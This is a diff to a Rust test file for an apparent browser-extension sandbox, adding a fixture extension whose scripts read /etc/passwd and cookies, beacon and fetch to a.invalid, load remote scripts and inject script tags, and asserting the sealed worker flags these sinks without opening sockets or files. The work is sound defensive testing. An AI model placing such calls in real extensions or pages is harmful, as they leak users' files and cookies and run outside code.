@@ -1,8 +1,10 @@
 //! The sealed worker: what it answers, and what no script gets out of it.
 
+use std::collections::BTreeMap;
 use std::process::{Command, Stdio};
 use std::time::{Duration, Instant};
 
+use crxhound::sandbox::protocol::{Answer, Play, PlayScene, PlayScript, Request};
 use crxhound::sandbox::{Budget, Worker};
 use crxhound::script::evaluate::{DecoderJob, Evaluate};
 
@@ -157,7 +159,42 @@ fn every_lock_of_linux_is_tried() {
     assert!(locks.iter().any(|lock| lock.name == "file access"), "landlock is at least tried");
 }
 
-/// The system calls of a child that is given hostile scripts: after it says that it is ready, it opens nothing, connects
+/// An extension that sends by every road, reads its own files and others, and loads more code.
+fn everything_that_leaves() -> Request {
+    let background = "fetch('https://a.invalid/'); fetch('/etc/passwd'); fetch('file:///etc/passwd'); new WebSocket('wss://a.invalid');\
+        navigator.sendBeacon('https://a.invalid', 'x'); importScripts('https://a.invalid/x.js', 'more.js'); import('./more.js');\
+        const x = new XMLHttpRequest(); x.open('GET', 'https://a.invalid'); x.send(); new Worker('https://a.invalid/w.js');\
+        chrome.tabs.create({ url: 'https://a.invalid' }); chrome.runtime.connectNative('host'); eval('1'); setTimeout('2', 1);\
+        chrome.downloads.download({ url: 'https://a.invalid/file' }); new RTCPeerConnection({ iceServers: [{ urls: 'stun:a.invalid' }] })";
+    let content = "new Image().src = 'https://a.invalid/i'; document.cookie; localStorage.x = 1; document.body.innerHTML = '<img src=//a.invalid>';\
+        const s = document.createElement('script'); s.src = 'https://a.invalid/s.js'; document.head.append(s); location.href = 'https://a.invalid'";
+    let files = [("bg.js", background), ("c.js", content), ("more.js", "fetch('https://b.invalid')")];
+    let script = |world: &str, file: &str| PlayScript { world: world.to_owned(), file: file.to_owned() };
+    let word = |name: &str| (name.to_owned(), serde_json::json!("x"));
+    let canary: serde_json::Map<_, _> =
+        ["mail", "page", "cookie", "session", "server", "hook", "network", "header", "key"].map(word).into_iter().collect();
+    let scene = serde_json::json!({
+        "url": "https://site.example/", "title": "x", "origin": "https://site.example", "site": "site.example",
+        "hosts": ["site.example"], "requests": ["https://site.example/"], "login": [], "traffic": ["https://site.example/"],
+        "touched": ["https://site.example/"], "cookies": [], "canary": canary,
+    });
+    let setup = serde_json::json!({
+        "id": "a".repeat(32), "manifest": {}, "permissions": ["downloads", "nativeMessaging", "tabs"], "worker": true, "pages": {},
+    });
+    Request::Play(Box::new(Play {
+        setup: setup.to_string(),
+        scenes: vec![PlayScene {
+            scene: scene.to_string(),
+            scripts: vec![script("background", "bg.js"), script("page", "c.js")],
+        }],
+        files: files.map(|(path, text)| (path.to_owned(), text.to_owned())).into(),
+        pages: BTreeMap::new(),
+        steps: 50_000_000,
+        total: 50_000_000,
+    }))
+}
+
+/// The system calls of a child that is given hostile scripts, and a whole extension: after it says that it is ready, it opens nothing, connects
 /// nowhere and starts nothing.
 #[test]
 #[cfg(target_os = "linux")]
@@ -189,8 +226,14 @@ fn a_trace_of_the_child_shows_no_socket_and_no_file() {
         let request = serde_json::json!({ "unpack": { "program": program, "steps": 1_000_000 } });
         writeln!(input, "{request}").unwrap();
     }
+    writeln!(input, "{}", serde_json::to_string(&everything_that_leaves()).unwrap()).unwrap();
     drop(input);
-    assert!(child.wait_with_output().unwrap().status.success());
+    let output = child.wait_with_output().unwrap();
+    assert!(output.status.success());
+    let answers: Vec<Answer> = output.stdout.split(|byte| *byte == b'\n').flat_map(serde_json::from_slice).collect();
+    let sinks = |answer: &&Answer| matches!(answer, Answer::Happened(event) if event.kind == "sink");
+    assert!(answers.iter().filter(sinks).count() >= 6, "{answers:?}");
+    assert!(matches!(answers.last(), Some(Answer::Played { .. })), "{answers:?}");
     let lines = std::fs::read_to_string(&trace).unwrap();
     let (_, sealed) = lines.split_once("write(1, \"{\\\"ready").expect("the child says that it is ready");
     let mut wrong = Vec::new();
